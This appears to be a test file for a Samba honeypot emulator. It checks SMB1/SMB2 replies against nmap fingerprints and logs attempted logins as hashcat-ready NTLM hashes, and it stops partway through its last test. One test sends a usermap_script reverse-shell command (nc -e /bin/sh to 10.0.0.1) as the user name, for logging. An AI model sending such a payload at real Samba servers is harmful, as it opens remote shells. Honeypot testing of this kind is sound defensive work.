import { describe, expect, test } from "bun:test";
import { serviceEntries } from "../../src/catalog/index.ts";
import { HostCounters } from "../../src/host/counters.ts";
import { bootTime, hostFacts } from "../../src/host/facts.ts";
import { makeContext } from "../../src/services/context.ts";
import { samba } from "../../src/services/samba/index.ts";
import type { SambaTemplates } from "../../src/services/samba/templates.ts";
import type { CatalogEntry, ProtocolEvent, ProtocolSession, Reply } from "../../src/types.ts";
import { toBytes, toLatin1 } from "../../src/wire/bytes.ts";
import { PIPE_MAX_BUFFERED, SrvsvcPipe } from "../../src/services/samba/dcerpc.ts";

const catalog = { entries: serviceEntries("samba") as CatalogEntry<SambaTemplates>[], defaultPorts: samba.defaultPorts };
const NOW = new Date("2024-03-05T07:08:09Z");
// 2024-03-05T07:08:09Z as a Windows FILETIME, computed by hand: (1709622489 s + 11644473600 s) * 10^7.
const NOW_FILETIME = 133540960890000000n;

function entry(id: string): CatalogEntry<SambaTemplates> {
  const e = catalog.entries.find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}`);
  return e;
}

/** The test host: its clock exact, in Berlin (UTC+1 in March). */
const HOST = { ...hostFacts({ seed: "test", family: "debian" }), clockSkewMs: 0, timeZone: "Europe/Berlin" };

function session(id: string, seed = "s1", localPort = 445): ProtocolSession {
  const s = samba.start(makeContext({ entry: entry(id), hostSeed: "test", host: HOST, sessionSeed: seed, now: () => NOW, localPort }));
  const opened = s.open();
  expect(opened.write).toBeUndefined();
  expect(opened.close).toBeFalsy();
  return s;
}

/** smbd's clock: within the millisecond of NOW, in steps of 10 µs (100 FILETIME ticks), not whole milliseconds. */
function expectSmbdTime(t: bigint): void {
  expect(t >= NOW_FILETIME && t < NOW_FILETIME + 10_000n).toBe(true);
  expect(t % 100n).toBe(0n);
}

function bytes(r: Reply): Uint8Array {
  return r.write === undefined ? new Uint8Array(0) : typeof r.write === "string" ? toBytes(r.write) : r.write;
}

const le16 = (b: Uint8Array, o: number) => b[o]! | (b[o + 1]! << 8);
const le32 = (b: Uint8Array, o: number) => (b[o]! | (b[o + 1]! << 8) | (b[o + 2]! << 16) | (b[o + 3]! << 24)) >>> 0;
const le64 = (b: Uint8Array, o: number) => BigInt(le32(b, o)) | (BigInt(le32(b, o + 4)) << 32n);
const u16 = (v: number) => [v & 0xff, v >> 8];
const u32 = (v: number) => [v & 0xff, (v >>> 8) & 0xff, (v >>> 16) & 0xff, (v >>> 24) & 0xff];
const ascii = (s: string) => [...s].map((c) => c.charCodeAt(0));
const ucs2 = (s: string) => [...s].flatMap((c) => [c.charCodeAt(0), 0]);

/** Wraps an SMB message in a NetBIOS session message (type 0, length in the low 17 bits). */
function nb(payload: number[]): Uint8Array {
  return Uint8Array.from([0, (payload.length >> 16) & 1, (payload.length >> 8) & 0xff, payload.length & 0xff, ...payload]);
}

// nmap's SMBProgNeg probe, written out from nmap-service-probes.
const PROGNEG_DIALECTS = ["PC NETWORK PROGRAM 1.0", "MICROSOFT NETWORKS 1.03", "MICROSOFT NETWORKS 3.0", "LANMAN1.0", "LM1.2X002", "Samba", "NT LANMAN 1.0", "NT LM 0.12"];
const SMBPROGNEG = toBytes(
  "\0\0\0\xa4\xff\x53\x4d\x42\x72\0\0\0\0\x08\x01\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\x06\0\0\x01\0\0\x81\0" +
    PROGNEG_DIALECTS.map((d) => `\x02${d}\0`).join(""),
);

// nmap's hard matches (nmap-service-probes lines 13836, 13838, 13842), in JavaScript syntax.
const NMAP_SAMBA_WG_HOST = /^\0\0\0.\xffSMBr\0\0\0\0\x88..\0\0[-\w. ]*\0+@\x06\0\0\x01\0\x11\x06\0.{42}(.*)\0\0(.*)\0\0$/s;
const NMAP_SAMBA_WG = /^\0\0\0.\xffSMBr\0\0\0\0\x88..\0\0[-\w. ]*\0+@\x06\0\0\x01\0\x11\x06\0.*(?:[^\0]|[^_A-Z0-9-]\0)((?:[-\w]\0){2,50})/s;
const NMAP_SAMBA_462 = /^\0\0\0.\xffSMBr\0\0\0\0\x88..\0\0\0\0\0\0\0\0\0\0\0\0\0\0@\x06\0\0\x01\0\x01\xff\xff\0\0$/s;
/** nmap's $P(): keep printable characters only. */
const P = (s: string) => s.replace(/[^\x20-\x7e]/g, "");

/** What nmap -sV would print as extra info for this reply, using its first matching Samba rule. */
function nmapInfo(reply: string): string | undefined {
  const a = NMAP_SAMBA_WG_HOST.exec(reply);
  if (a) return `workgroup: ${P(a[1]!)}`;
  const b = NMAP_SAMBA_WG.exec(reply);
  if (b) return `workgroup: ${P(b[1]!)}`;
  return undefined;
}

interface Smb1Opts {
  cmd: number;
  flags2: number;
  words: number[];
  data: number[];
  uid?: number;
  mid?: number;
}
function smb1({ cmd, flags2, words, data, uid = 0, mid = 2 }: Smb1Opts): Uint8Array {
  const header = [0xff, 0x53, 0x4d, 0x42, cmd, 0, 0, 0, 0, 0x18, ...u16(flags2), ...new Array(12).fill(0), 0, 0, ...u16(0xfeff), ...u16(uid), ...u16(mid)];
  return nb([...header, words.length / 2, ...words, ...u16(data.length), ...data]);
}
function negprot(dialects: string[], flags2: number): Uint8Array {
  return smb1({ cmd: 0x72, flags2, words: [], data: dialects.flatMap((d) => [2, ...ascii(d), 0]) });
}

// Minimal DER/SPNEGO/NTLMSSP as a client sends them (MS-NLMP, RFC 4178).
function der(tag: number, body: number[]): number[] {
  const n = body.length;
  return [tag, ...(n < 128 ? [n] : n < 256 ? [0x81, n] : [0x82, n >> 8, n & 0xff]), ...body];
}
const NTLM_OID = [0x06, 0x0a, 0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0a];
const spnegoInit = (tok: number[]) =>
  der(0x60, [0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02, ...der(0xa0, der(0x30, [...der(0xa0, der(0x30, NTLM_OID)), ...der(0xa2, der(0x04, tok))]))]);
const spnegoResp = (tok: number[]) => der(0xa1, der(0x30, der(0xa2, der(0x04, tok))));
const NTLM_NEGOTIATE = [...ascii("NTLMSSP\0"), ...u32(1), ...u32(0x60088215), ...new Array(16).fill(0)];
function ntlmAuthenticate(user: string, domain: string, ws: string, lm: number[], nt: number[]): number[] {
  const fields = [lm, nt, ucs2(domain), ucs2(user), ucs2(ws), []];
  let off = 64;
  const head: number[] = [];
  const body: number[] = [];
  for (const f of fields) {
    head.push(...u16(f.length), ...u16(f.length), ...u32(off));
    off += f.length;
    body.push(...f);
  }
  return [...ascii("NTLMSSP\0"), ...u32(3), ...head, ...u32(0x60088215), ...body];
}
function sessionSetupExt(blob: number[], uid: number): Uint8Array {
  const words = [0xff, 0, 0, 0, ...u16(0xffff), ...u16(2), ...u16(1), ...u32(0), ...u16(blob.length), ...u32(0), ...u32(0x8000e054)];
  return smb1({ cmd: 0x73, flags2: 0xc803, words, data: [...blob, ...ucs2("Unix\0"), ...ucs2("Samba\0")], uid });
}

function smb2(cmd: number, body: number[], sessionId = 0, messageId = 0): Uint8Array {
  const header = [0xfe, 0x53, 0x4d, 0x42, ...u16(64), ...u16(0), ...u32(0), ...u16(cmd), ...u16(1), ...u32(0), ...u32(0), ...u32(messageId), ...u32(0), ...u32(0xfeff), ...u32(0), ...u32(sessionId), ...u32(0), ...new Array(16).fill(0)];
  const p = [...header, ...body];
  return Uint8Array.from([0, (p.length >> 16) & 0xff, (p.length >> 8) & 0xff, p.length & 0xff, ...p]);
}
function smb2Negotiate(dialects: number[], contexts?: number[]): Uint8Array {
  const fixed = 36 + dialects.length * 2;
  const ctxOffset = contexts ? (64 + fixed + 7) & ~7 : 0;
  const body = [...u16(36), ...u16(dialects.length), ...u16(1), ...u16(0), ...u32(0x7f), ...ascii("GUIDGUIDGUIDGUID"), ...u32(ctxOffset), ...u16(contexts ? 2 : 0), ...u16(0), ...dialects.flatMap(u16)];
  if (contexts) {
    while (64 + body.length < ctxOffset) body.push(0);
    body.push(...contexts);
  }
  return smb2(0, body);
}

function events(r: Reply, action: ProtocolEvent["action"]): ProtocolEvent[] {
  return (r.events ?? []).filter((e) => e.action === action);
}

describe("samba: the NegProt nmap fingerprints", () => {
  const smb1Entries = catalog.entries.filter((e) => e.templates.smb1 && e.templates.implementation === "samba");

  test("every SMB1 persona answers SMBProgNeg the way nmap's Samba rules read it", () => {
    expect(smb1Entries.length).toBeGreaterThanOrEqual(7);
    for (const e of smb1Entries) {
      const r = session(e.id).data(SMBPROGNEG);
      expect(r.close).toBeFalsy();
      const out = bytes(r);
      expect(out[0]).toBe(0); // NBSS session message
      expect((out[2]! << 8) | out[3]!).toBe(out.length - 4);
      expect([...out.subarray(4, 9)]).toEqual([0xff, 0x53, 0x4d, 0x42, 0x72]);
      expect(le32(out, 9)).toBe(0); // STATUS_SUCCESS
      expect(out[13]).toBe(0x88); // reply + case-insensitive, echoed
      expect(le16(out, 4 + 26)).toBe(0x0640); // the probe's PID echoed
      expect(le16(out, 4 + 30)).toBe(1); // and its MID
      expect(out[4 + 32]).toBe(17); // NT LM 0.12 reply has 17 words
      // Samba prefers "NT LANMAN 1.0" over "NT LM 0.12", so it names that dialect's index in the probe.
      expect(le16(out, 4 + 33)).toBe(PROGNEG_DIALECTS.indexOf("NT LANMAN 1.0"));
      expect(nmapInfo(toLatin1(out))).toBe(e.info!);
      expect(e.product).toBe("Samba smbd");
      expect(e.version).toBe("3.X - 4.X");
    }
  });

  test("the NT LM 0.12 words carry Samba's values, the clock and an 8-byte challenge", () => {
    const e = entry("samba-3.0.24-debian");
    const out = bytes(session(e.id).data(SMBPROGNEG));
    const w = 4 + 35; // after header and dialect index
    expect(out[w]).toBe(0x03); // user-level security, challenge/response
    expect(le16(out, w + 1)).toBe(50); // max mpx
    expect(le16(out, w + 3)).toBe(1); // max VCs
    expect(le32(out, w + 5)).toBe(16644); // max buffer (smbd's default max xmit)
    expect(le32(out, w + 9)).toBe(0x10000); // max raw
    expect(le32(out, w + 17) & 0x04).toBe(0x04); // CAP_UNICODE
    expect((le32(out, w + 17) & 0x80000000) >>> 0).toBe(0); // no extended security: nmap did not ask
    expectSmbdTime(le64(out, w + 21));
    expect(le16(out, w + 29)).toBe(0x10000 - 60); // ServerTimeZone: UTC is 60 minutes behind Berlin's wall clock
    expect(out[w + 31]).toBe(8); // challenge length
    const byteCount = le16(out, w + 32);
    expect(byteCount).toBe(out.length - (w + 34));
    const wg = "WORKGROUP";
    expect(byteCount).toBe(8 + (wg.length + 1) * 2); // challenge + Unicode workgroup, terminated
    expect(toLatin1(out.subarray(w + 34 + 8))).toBe(`${wg.split("").join("\0")}\0\0\0`);
  });

  test("Samba 4 adds its NetBIOS name after the workgroup, upper-cased from the host name", () => {
    const ctx = makeContext({ entry: entry("samba-4.5.16-debian"), hostSeed: "test", sessionSeed: "s1", now: () => NOW });
    const s = samba.start(ctx);
    s.open();
    const reply = toLatin1(bytes(s.data(SMBPROGNEG)));
    const m = NMAP_SAMBA_WG_HOST.exec(reply);
    expect(m).not.toBeNull();
    expect(P(m![1]!)).toBe("MSHOME");
    expect(P(m![2]!)).toBe(ctx.hostname.toUpperCase().slice(0, 15));
  });

  test("nmap reads the right workgroup whatever the random challenge is", () => {
    for (const e of smb1Entries) {
      for (let i = 0; i < 150; i++) {
        expect(nmapInfo(toLatin1(bytes(session(e.id, `seed-${i}`).data(SMBPROGNEG))))).toBe(e.info!);
      }
    }
  });

  test("the SMB1-disabled Samba 4.6.2 says 'no dialect' and hangs up, as nmap's 4.6.2 rule expects", () => {
    const e = entry("samba-4.6.2-rhel7");
    expect(e.version).toBe("4.6.2");
    const r = session(e.id).data(SMBPROGNEG);
    expect(r.close).toBe(true);
    expect(NMAP_SAMBA_462.test(toLatin1(bytes(r)))).toBe(true);
  });

  test("the probe split into single bytes gives the same answer", () => {
    const whole = bytes(session("samba-3.6.25-freebsd").data(SMBPROGNEG));
    const s = session("samba-3.6.25-freebsd");
    const parts: Uint8Array[] = [];
    for (const b of SMBPROGNEG) {
      const r = s.data(Uint8Array.of(b));
      expect(r.close).toBeFalsy();
      if (r.write !== undefined) parts.push(bytes(r));
    }
    expect(parts.length).toBe(1);
    expect([...parts[0]!]).toEqual([...whole]);
  });
});

describe("samba: NetBIOS session service", () => {
  test("a session request on 139 gets the positive response 0x82, once", () => {
    const s = session("samba-3.0.24-debian", "s1", 139);
    const called = [0x20, ...ascii("CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"), 0];
    const req = [0x81, 0, 0, called.length * 2, ...called, ...called];
    expect([...bytes(s.data(Uint8Array.from(req)))]).toEqual([0x82, 0, 0, 0]);
    // Then the NegProt works as usual on the session.
    expect(bytes(s.data(SMBPROGNEG))[8]).toBe(0x72);
    // smbd refuses a second session request.
    expect(s.data(Uint8Array.from(req)).close).toBe(true);
  });

  test("keepalives are swallowed; the odd 0x89 keepalive request is answered with 0x85", () => {
    const s = session("samba-3.0.24-debian");
    const r = s.data(Uint8Array.of(0x85, 0, 0, 0));
    expect(r.write).toBeUndefined();
    expect(r.close).toBeFalsy();
    expect([...bytes(s.data(Uint8Array.of(0x89, 0, 0, 0)))]).toEqual([0x85, 0, 0, 0]);
  });

  test("a half-received frame waits; a flood completes it, and a frame that is not SMB ends the session with a reset", () => {
    const s = session("samba-3.0.24-debian");
    const head = s.data(toBytes("\0\x01\xff\xff\xffSMB"));
    expect(head.close).toBeFalsy();
    expect(head.write).toBeUndefined();
    // 300 KB of zeros: the 131071-byte frame completes (an SMB header with command 0, not a negprot), smbd exits
    // with the rest unread in its socket, so the kernel resets.
    const r = s.data(new Uint8Array(300 * 1024));
    expect(r.close).toBe("reset");
    expect(bytes(r).length).toBe(0);
  });

  test("random binary garbage never throws and never produces more than a small answer", () => {
    let state = 12345;
    const rand = () => (state = (state * 1103515245 + 12345) & 0x7fffffff) & 0xff;
    for (let i = 0; i < 300; i++) {
      const s = session(catalog.entries[i % catalog.entries.length]!.id, `g${i}`);
      for (let k = 0; k < 5; k++) {
        const chunk = Uint8Array.from({ length: 1 + (rand() % 200) }, rand);
        if (k === 0 && i % 2 === 0) chunk[0] = 0; // half of them look like session messages
        const r = s.data(chunk);
        expect(bytes(r).length).toBeLessThan(4096);
        if (r.close) break;
      }
    }
  });

  test("SMB2 to a Samba 3 persona is dropped, as smbd 3.x drops non-SMB1 packets", () => {
    expect(session("samba-3.0.24-debian").data(smb2Negotiate([0x0202, 0x0210])).close).toBe(true);
  });
});

describe("samba: logins are logged, never granted beyond guest", () => {
  test("NTLMSSP over SPNEGO: challenge, then the AUTHENTICATE is logged with a crackable line", () => {
    const s = session("samba-3.0.33-rhel5");
    const neg = bytes(s.data(negprot(["NT LM 0.12"], 0xc853)));
    const w = 4 + 35;
    expect((le32(neg, w + 17) & 0x80000000) >>> 0).toBe(0x80000000); // CAP_EXTENDED_SECURITY
    expect(out8(neg, w + 31)).toBe(0); // no challenge in the negprot with extended security
    // The server GUID: smbd's lower-case NetBIOS name, zero padded.
    const guid = toLatin1(neg.subarray(w + 34, w + 50)).replace(/\0+$/, "");
    expect(guid).toBe(guid.toLowerCase());
    expect(guid.length).toBeGreaterThan(0);

    const r1 = s.data(sessionSetupExt(spnegoInit(NTLM_NEGOTIATE), 0));
    const b1 = bytes(r1);
    expect(le32(b1, 4 + 5)).toBe(0xc0000016); // STATUS_MORE_PROCESSING_REQUIRED
    const uid = le16(b1, 4 + 28);
    expect(uid).toBeGreaterThan(0);
    const at = toLatin1(b1).indexOf("NTLMSSP\0");
    expect(at).toBeGreaterThan(0);
    expect(le32(b1, at + 8)).toBe(2); // CHALLENGE_MESSAGE
    const challenge = Buffer.from(b1.subarray(at + 24, at + 32)).toString("hex");
    // The target info names the server: its NetBIOS name in the NbComputerName pair.
    expect(toLatin1(b1)).toContain(guid.toUpperCase().split("").join("\0"));

    const nt = Array.from({ length: 24 }, (_, i) => i + 1);
    const r3 = s.data(sessionSetupExt(spnegoResp(ntlmAuthenticate("administrator", "CORP", "KALI", new Array(24).fill(0), nt)), uid));
    expect(le32(bytes(r3), 4 + 5)).toBe(0xc000006d); // STATUS_LOGON_FAILURE: RHEL does not map bad users to guest
    // A 24-byte NT response is NTLMv1: hashcat -m 5500 reads user::domain:lm:nt:challenge.
    expect(events(r3, "login")).toEqual([
      {
        action: "login",
        method: "smb1-ntlmssp",
        user: "administrator",
        domain: "CORP",
        hash: { value: `administrator::CORP:${"00".repeat(24)}:${Buffer.from(nt).toString("hex")}:${challenge}`, type: "netntlmv1", hashcatMode: 5500 },
        client: { workstation: "KALI" },
      },
    ]);
  });

  test("Debian maps unknown users to guest: the session setup succeeds with the guest bit and Samba's strings", () => {
    const s = session("samba-3.0.24-debian");
    s.data(negprot(["NT LM 0.12"], 0x4001));
    const user = "/=`nohup nc -e /bin/sh 10.0.0.1 4444`";
    const words = [0xff, 0, 0, 0, ...u16(0xffff), ...u16(2), ...u16(1), ...u32(0), ...u16(7), ...u16(0), ...u32(0), ...u32(0xd4)];
    const data = [...ascii("secret\0"), ...ascii(user), 0, ...ascii("WG"), 0, ...ascii("Unix"), 0, ...ascii("Samba"), 0];
    const r = s.data(smb1({ cmd: 0x73, flags2: 0x4001, words, data }));
    const b = bytes(r);
    expect(le32(b, 4 + 5)).toBe(0);
    expect(b[4 + 32]).toBe(3);
    expect(le16(b, 4 + 33 + 4)).toBe(1); // action: logged in as guest
    expect(toLatin1(b)).toContain("Unix\0Samba 3.0.24\0WORKGROUP\0");
    // usermap_script payloads arrive as the user name; the plaintext password is kept too.
    expect(events(r, "login")).toEqual([{ action: "login", method: "smb", user, domain: "WG", password: "secret", client: { os: "Unix", lanman: "Samba" } }]);
  });

  test("a command before the NegProt, or a second NegProt, ends the connection like smbd", () => {
    expect(session("samba-3.0.24-debian").data(smb1({ cmd: 0x75, flags2: 0x4001, words: [0xff, 0, 0, 0, 0, 0, 1, 0], data: [0] })).close).toBe(true);
    const s = session("samba-3.0.24-debian");
    s.data(SMBPROGNEG);
    expect(s.data(SMBPROGNEG).close).toBe(true);
  });
});

describe("samba: SMB2 on the Samba 4 personas", () => {
  test("SMB2 NEGOTIATE picks the highest common dialect and offers SPNEGO", () => {
    const r = session("samba-4.6.2-rhel7").data(smb2Negotiate([0x0202, 0x0210, 0x0300, 0x0302]));
    expect(r.close).toBeFalsy();
    const b = bytes(r);
    expect((b[1]! << 16) | (b[2]! << 8) | b[3]!).toBe(b.length - 4);
    const m = b.subarray(4);
    expect([...m.subarray(0, 4)]).toEqual([0xfe, 0x53, 0x4d, 0x42]);
    expect(le16(m, 12)).toBe(0); // NEGOTIATE
    expect(le32(m, 8)).toBe(0);
    expect(le32(m, 16) & 1).toBe(1); // server-to-redirector
    expect(le16(m, 64)).toBe(65);
    expect(le16(m, 68)).toBe(0x0302);
    const secOff = le16(m, 64 + 56);
    const secLen = le16(m, 64 + 58);
    expect(secOff).toBe(0x80);
    expect(secOff + secLen).toBe(m.length);
    // SPNEGO OID 1.3.6.1.5.5.2 at the start of the token.
    expect([...m.subarray(secOff, secOff + 10)].slice(2)).toEqual([0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02]);
    expectSmbdTime(le64(m, 64 + 40));
  });

  test("SMB 3.1.1 answers with a SHA-512 preauth context and the cipher the client offered", () => {
    const pre = [...u16(1), ...u16(38), ...u32(0), ...u16(1), ...u16(32), ...u16(1), ...new Array(32).fill(0x53), 0, 0];
    const enc = [...u16(2), ...u16(6), ...u32(0), ...u16(2), ...u16(1), ...u16(2)];
    const b = bytes(session("samba-4.5.16-debian").data(smb2Negotiate([0x0202, 0x0300, 0x0311], [...pre, ...enc]))).subarray(4);
    expect(le16(b, 68)).toBe(0x0311);
    expect(le16(b, 70)).toBe(2); // two contexts
    const off = le32(b, 64 + 60);
    expect(off % 8).toBe(0);
    expect(le16(b, off)).toBe(1); // preauth integrity
    expect(le16(b, off + 8)).toBe(1); // one hash algorithm
    expect(le16(b, off + 10)).toBe(32); // 32-byte salt
    expect(le16(b, off + 12)).toBe(1); // SHA-512
    const enc2 = (off + 8 + 38 + 7) & ~7;
    expect(le16(b, enc2)).toBe(2);
    expect(le16(b, enc2 + 10)).toBe(2); // AES-128-GCM chosen over CCM
  });

  test("an SMB1 NegProt offering 'SMB 2.???' gets an SMB2 answer with the wildcard dialect", () => {
    const b = bytes(session("samba-4.5.16-debian").data(negprot(["NT LM 0.12", "SMB 2.002", "SMB 2.???"], 0xc853))).subarray(4);
    expect([...b.subarray(0, 4)]).toEqual([0xfe, 0x53, 0x4d, 0x42]);
    expect(le16(b, 68)).toBe(0x02ff);
  });

  test("no common dialect: STATUS_NOT_SUPPORTED, and the connection stays (smbd 4.17 measured)", () => {
    const s = session("samba-4.17-debian12");
    const r = s.data(smb2Negotiate([0x0100]));
    expect(r.close).toBeFalsy();
    expect(le32(bytes(r), 4 + 8)).toBe(0xc00000bb);
    // A second negotiate with a dialect it knows is answered.
    expect(le16(bytes(s.data(smb2Negotiate([0x0202]))), 4 + 64 + 4)).toBe(0x0202);
  });

  test("SMB2 session setup logs the NTLM user; tree connects are logged too", () => {
    const s = session("samba-4.5.16-debian");
    s.data(smb2Negotiate([0x0202, 0x0210]));
    const ssBody = (blob: number[]) => [...u16(25), 0, 1, ...u32(1), ...u32(0), ...u16(64 + 24), ...u16(blob.length), ...u32(0), ...u32(0), ...blob];
    const r1 = bytes(s.data(smb2(1, ssBody(spnegoInit(NTLM_NEGOTIATE)), 0, 1))).subarray(4);
    expect(le32(r1, 8)).toBe(0xc0000016);
    const sid = le32(r1, 40);
    expect(sid).not.toBe(0);
    const challenge = Buffer.from(r1.subarray(toLatin1(r1).indexOf("NTLMSSP\0") + 24).subarray(0, 8)).toString("hex");
    const r3 = s.data(smb2(1, ssBody(spnegoResp(ntlmAuthenticate("bob", "", "", [], Array.from({ length: 40 }, () => 7)))), sid, 2));
    // A longer NT response is NTLMv2: hashcat -m 5600 reads user::domain:challenge:NTProofStr:blob.
    expect(events(r3, "login")).toEqual([
      { action: "login", method: "smb2-ntlmssp", user: "bob", hash: { value: `bob:::${challenge}:${"07".repeat(16)}:${"07".repeat(24)}`, type: "netntlmv2", hashcatMode: 5600 } },
    ]);
    const b3 = bytes(r3).subarray(4);
    expect(le32(b3, 8)).toBe(0); // Debian: guest
    expect(le16(b3, 64 + 2)).toBe(1); // SMB2_SESSION_FLAG_IS_GUEST
    const path = ucs2("\\\\FILES\\nosuch");
    const tc = s.data(smb2(3, [...u16(9), ...u16(0), ...u16(64 + 8), ...u16(path.length), ...path], sid, 3));
    expect(events(tc, "command")[0]?.command).toBe("SMB2 TREE_CONNECT \\\\FILES\\nosuch (bad network name)");
    expect(le32(bytes(tc), 4 + 8)).toBe(0xc00000cc); // STATUS_BAD_NETWORK_NAME
  });

  test("after SMB2 negotiate, lengths are 24 bits: an 8 MiB frame is read to its end (keeping 128 KiB) before it is judged", () => {
    const s = session("samba-4.5.16-debian");
    s.data(smb2Negotiate([0x0202]));
    const len = 8 * 1024 * 1024;
    // A header whose StructureSize is not 64: not an SMB2 request once the whole frame is in.
    const first = s.data(Uint8Array.of(0, len >>> 16, 0, 0, 0xfe, 0x53, 0x4d, 0x42, 0, 0));
    expect(first.close).toBeFalsy();
    let sent = 6;
    const chunk = new Uint8Array(64 * 1024);
    while (sent + chunk.length < len) {
      const r = s.data(chunk);
      expect(r.close).toBeFalsy();
      expect(r.write).toBeUndefined();
      sent += chunk.length;
    }
    const last = s.data(new Uint8Array(len - sent));
    expect(last.close).toBe(true); // whole frame consumed, nothing left unread: FIN
  });
});

function out8(b: Uint8Array, o: number): number {
  return b[o]!;
}

// ---------------------------------------------------------------------------------------------------------
// What smbd does with bytes that are not SMB, measured on Debian 12's smbd 4.17.12 (127.0.0.1, one connection
// per case): "server min protocol" left at SMB2_02 (Debian's default: SMB1 off), and again with it set to NT1
// (SMB1 on, the reader every smbd from 4.0 to 4.16 runs). The 3.x column follows smbd 3.0.24's reply_special().

/** nmap's probes, copied from nmap-service-probes 7.93. */
const PROBE = {
  GenericLines: "\r\n\r\n",
  GetRequest: "GET / HTTP/1.0\r\n\r\n",
  RPCCheck: "\x80\0\0\x28\x72\xfe\x1d\x13\0\0\0\0\0\0\0\x02\0\x01\x86\xa0\0\x01\x97\x7c" + "\0".repeat(20),
  DNSVersionBindReqTCP: "\0\x1e\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03",
  DNSStatusRequestTCP: "\0\x0c\0\0\x10\0\0\0\0\0\0\0\0\0",
  Help: "HELP\r\n",
  TerminalServerCookie: "\x03\0\0*%\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n\x01\0\x08\0\x03\0\0\0",
};

/** A session request as smbclient sends it: *SMBSERVER called, the client's own name calling. */
function nbName(name: string): number[] {
  const padded = name.toUpperCase().padEnd(15, " ").slice(0, 15) + " ";
  return [32, ...[...padded].flatMap((c) => [0x41 + (c.charCodeAt(0) >> 4), 0x41 + (c.charCodeAt(0) & 15)]), 0];
}
const SESSION_REQUEST = Uint8Array.from([0x81, 0, 0, 68, ...nbName("*SMBSERVER"), ...nbName("NMAP")]);

type Outcome = { write: string; close: false | true | "reset" };
function outcome(r: Reply): Outcome {
  return { write: Buffer.from(bytes(r)).toString("hex"), close: r.close ?? false };
}

describe("samba: smbd's patience with bytes that are not SMB", () => {
  const faces = {
    "4.17-smb2-only": "samba-4.17-debian12",
    "4.x": "samba-4.5.16-debian",
    "3.x": "samba-3.0.24-debian",
  } as const;

  test("a header that promises more than arrived: no answer, the connection waits for the rest", () => {
    // Measured: GenericLines (3338 bytes promised), GetRequest (87072), TLS and RDP stayed open 135 s without a byte.
    for (const id of Object.values(faces)) {
      for (const p of [PROBE.GenericLines, PROBE.GetRequest, PROBE.Help, PROBE.TerminalServerCookie, "\0\x01\xff\xff"]) {
        expect(outcome(session(id).data(toBytes(p)))).toEqual({ write: "", close: false });
      }
    }
  });

  test("a whole frame that is not SMB ends the connection: FIN when all was read, RST when bytes were left unread", () => {
    for (const id of Object.values(faces)) {
      // Measured: a 40-byte junk message FIN; the same plus 5 more bytes RST; DNSVersionBind (a 6-byte frame and 22
      // bytes more) RST; DNSStatus (an empty frame and 10 bytes more) RST; an empty message and a runt FIN.
      expect(outcome(session(id).data(toBytes("\0\0\0\x28" + "J".repeat(40))))).toEqual({ write: "", close: true });
      expect(outcome(session(id).data(toBytes("\0\0\0\x28" + "J".repeat(40) + "EXTRA")))).toEqual({ write: "", close: "reset" });
      expect(outcome(session(id).data(toBytes(PROBE.DNSVersionBindReqTCP)))).toEqual({ write: "", close: "reset" });
      expect(outcome(session(id).data(toBytes(PROBE.DNSStatusRequestTCP)))).toEqual({ write: "", close: "reset" });
      expect(outcome(session(id).data(Uint8Array.of(0, 0, 0, 0)))).toEqual({ write: "", close: true });
      expect(outcome(session(id).data(toBytes("\0\0\0\x08\xffSMBrxxx")))).toEqual({ write: "", close: true });
    }
  });

  test("other NetBIOS packets: 4.17 with SMB1 off hangs up; 4.x answers and hangs up; 3.x answers and carries on", () => {
    const cases: [string, Uint8Array, Record<keyof typeof faces, Outcome>][] = [
      // Keepalive: measured FIN at once (SMB1 off), ignored until the 60 s idle check (SMB1 on); 3.0 ignores it.
      ["keepalive", Uint8Array.of(0x85, 0, 0, 0), { "4.17-smb2-only": { write: "", close: true }, "4.x": { write: "", close: false }, "3.x": { write: "", close: false } }],
      // 0x89 keepalive request: FIN without a word; 85000000 then FIN; 3.0 answers 85000000 only.
      ["0x89", Uint8Array.of(0x89, 0, 0, 0), { "4.17-smb2-only": { write: "", close: true }, "4.x": { write: "85000000", close: true }, "3.x": { write: "85000000", close: false } }],
      // A stray positive session response: FIN; four zero bytes then FIN; 3.0 answers the four zero bytes only.
      ["0x82", Uint8Array.of(0x82, 0, 0, 0), { "4.17-smb2-only": { write: "", close: true }, "4.x": { write: "00000000", close: true }, "3.x": { write: "00000000", close: false } }],
      // nmap's RPCCheck, a whole 0x80 frame: FIN at once with SMB1 off (18 ms); ignored with SMB1 on (FIN at the 60 s check).
      ["RPCCheck", toBytes(PROBE.RPCCheck), { "4.17-smb2-only": { write: "", close: true }, "4.x": { write: "", close: false }, "3.x": { write: "", close: false } }],
      // A session request: 82000000 from every smbd, the connection stays.
      ["session request", SESSION_REQUEST, { "4.17-smb2-only": { write: "82000000", close: false }, "4.x": { write: "82000000", close: false }, "3.x": { write: "82000000", close: false } }],
      // A malformed one: "called name not present" and FIN; smbd 3.0 returns without a word.
      ["bad session request", Uint8Array.of(0x81, 0, 0, 2, 1, 0x41), { "4.17-smb2-only": { write: "8300000182", close: true }, "4.x": { write: "8300000182", close: true }, "3.x": { write: "", close: false } }],
    ];
    for (const [what, packet, expected] of cases) {
      for (const [rules, id] of Object.entries(faces) as [keyof typeof faces, string][]) {
        expect({ what, rules, ...outcome(session(id).data(packet)) }).toEqual({ what, rules, ...expected[rules] });
      }
    }
  });

  test("the promise kept: \\r\\n\\r\\n then its 3338 bytes, or GET then 87072, ends 4.17 (SMB1 off) with a FIN, nothing sent", () => {
    // Measured (Debian 12 smbd, log "Invalid message type 13" / "71"): FIN at 0.014 s.
    for (const [head, n] of [["\r\n\r\n", 3338], ["GET ", 87072]] as const) {
      const s = session("samba-4.17-debian12");
      expect(outcome(s.data(toBytes(head)))).toEqual({ write: "", close: false });
      expect(outcome(s.data(new Uint8Array(n - 1)))).toEqual({ write: "", close: false });
      expect(outcome(s.data(new Uint8Array(1)))).toEqual({ write: "", close: true });
    }
  });

  test("SMB1 off: the first message must be a negotiate; with SMB1 on an SMB2 negotiate is answered too", () => {
    // A session setup before any negotiate: both readers exit (FIN).
    const setup = smb1({ cmd: 0x73, flags2: 0xc803, words: new Array(24).fill(0), data: [] });
